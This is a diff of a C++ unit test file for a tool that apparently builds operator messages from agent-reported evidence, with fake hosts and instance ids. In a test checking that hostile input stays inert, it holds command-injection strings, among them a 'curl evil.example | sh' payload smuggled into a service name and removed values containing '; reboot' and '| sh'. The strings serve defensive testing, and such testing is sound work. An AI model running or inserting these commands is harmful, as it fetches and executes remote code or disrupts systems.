@@ -113,7 +113,7 @@ TEST(MessageTest, ThePathIsBlockedWhileBothEndsAreWell) {
 
 TEST(MessageTest, ThePortRefusesAndNobodyWatchesTheOtherEnd) {
   Story story{Story::Empty{}};
-  story.AddHost("app-1", "10.0.1.20", "i-0def");
+  story.AddHost("app-1", "10.0.1.20", "i-0d9e8f7a6b5c40312");
   story.Watch("app-1", kPort, {.address = "10.0.2.10", .port = 3306}, PortAnswers(kDatabase));
   story.See("app-1", kPort, PortRefuses(kDatabase));
   story.Pass(Span::Seconds(1));
@@ -228,8 +228,8 @@ TEST(MessageTest, HostileWordsFromAnAgentStayWords) {
   seen.evidence = {{.text = "fact\nwith a line break"}};
   story.Watch("db-1", evil, {.subject = "database"}, seen);
   const std::string message = story.Message();
-  EXPECT_THAT(message, HasSubstr("Do: aws ssm start-session --target 'i-0; reboot' --region "
-                                 "'us-east-1 | sh'\n"));
+  // What cannot be an instance of EC2 is none.
+  EXPECT_THAT(message, HasSubstr("Do: ssh db-1\n"));
   EXPECT_THAT(message, HasSubstr("    sudo systemctl start 'x; curl evil.example | sh #'\n"));
   EXPECT_THAT(message, Not(HasSubstr("\nCRITICAL other-stack")));
   EXPECT_THAT(message, Not(HasSubstr("\x1b")));
